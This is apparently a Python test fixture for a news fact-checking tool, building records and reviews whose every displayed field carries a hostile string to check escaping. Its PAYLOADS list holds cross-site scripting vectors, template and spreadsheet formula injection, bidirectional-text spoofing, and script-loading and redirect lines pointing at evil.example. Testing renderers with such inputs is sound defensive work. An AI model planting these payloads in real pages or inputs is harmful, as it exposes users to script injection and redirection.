"""Articles that try to become something else than text, in every field that a page shows."""

from __future__ import annotations

from msgspec.structs import replace

from onrecord.types import Actor, Dropped, Finding, Headline, Interval, Record, Review, Span, Time, Warn
from tests.builders import make_record, make_statement, span_of

PAYLOADS = (
    '<script>window.pwned = 1</script>',
    '"><img src=x onerror="window.pwned = 1">',
    "' onmouseover='window.pwned = 1' x='",
    "<svg onload=window.pwned=1><a xlink:href='javascript:window.pwned=1'>",
    "javascript:window.pwned=1//",
    "</textarea></title></style><script src=//evil.example/x.js></script>",
    "{{ 7 * 7 }}{% raw %}${window.pwned=1}",
    "abc\u202egnp.exe\u2066 isolate\u2069 \u0000\u0007\x9b",
    "=HYPERLINK(\"http://evil.example\")",
    "<!--<base href=//evil.example>--><meta http-equiv=refresh content=0;url=//evil.example>",
    "\ud800 lone surrogate",
)  # fmt: skip


def hostile_records() -> list[Record]:
    """For each payload a report that has it as text, title, outlet, address, author, name, role and id."""
    return [_record(number, payload) for number, payload in enumerate(PAYLOADS)]


def hostile_reviews() -> list[tuple[Review, str, str, str]]:
    """A fact-check of each of those reports, with the report, the statement and its text."""
    return [
        (
            Review(
                claim=payload, claimant=payload, claimed_on=None, rating=payload, publisher=payload, url=payload,
                reviewed_on=payload, location=payload,
            ),
            record.id, record.statements[0].id, record.statements[0].content.text,
        )
        for payload, record in zip(PAYLOADS, hostile_records(), strict=True)
        if record.statements
    ]  # fmt: skip


def _record(number: int, payload: str) -> Record:
    said = f"The harbour number {number} said {payload} would stay open until May."
    text = f"{said} Nobody laughed."
    actor = Actor(
        id="a1", name=f"Ann {payload}", type="person", role=payload, country="NOR", wikidata=payload,
        mentions=(span_of(text, "harbour"),),
    )  # fmt: skip
    statement = make_statement(
        text, said, id=f"s{payload}", source=f"harbour number {number}", cue="said", addressee="Nobody",
        speaker="a1", act="promises", polarity="pos", certainty="CT", hedges=(), conditions=(span_of(text, "until May"),),
        due=Interval(start="2024-05-01", end="2024-07-31", text=payload), said=None,
    )  # fmt: skip
    title = f"{payload} says Ann"
    finding = Finding(
        type="dropped_hedge",
        headline=Span(spans=((0, len(payload)),), text=payload, in_="title"),
        evidence=span_of(text, "until May"),
        statement=f"s{payload}",
        reason=payload,
    )
    record = make_record(
        text, id=f"r{number} {payload}", title=title, publisher=payload, statements=[statement], actors=[actor],
        headline=Headline(verdict="overstates", findings=(finding,)),
        times=(Time(spans=((0, 3),), text=text[:3], type="DATE", value="2024", start=None, end=None),),
        warnings=(Warn(code=payload, message=payload),),
    )  # fmt: skip
    article = replace(
        record.article,
        url=payload,
        authors=(payload,),
        language=payload,
        dropped=(Dropped(text=payload, reason=payload),),
    )
    return replace(record, article=article)
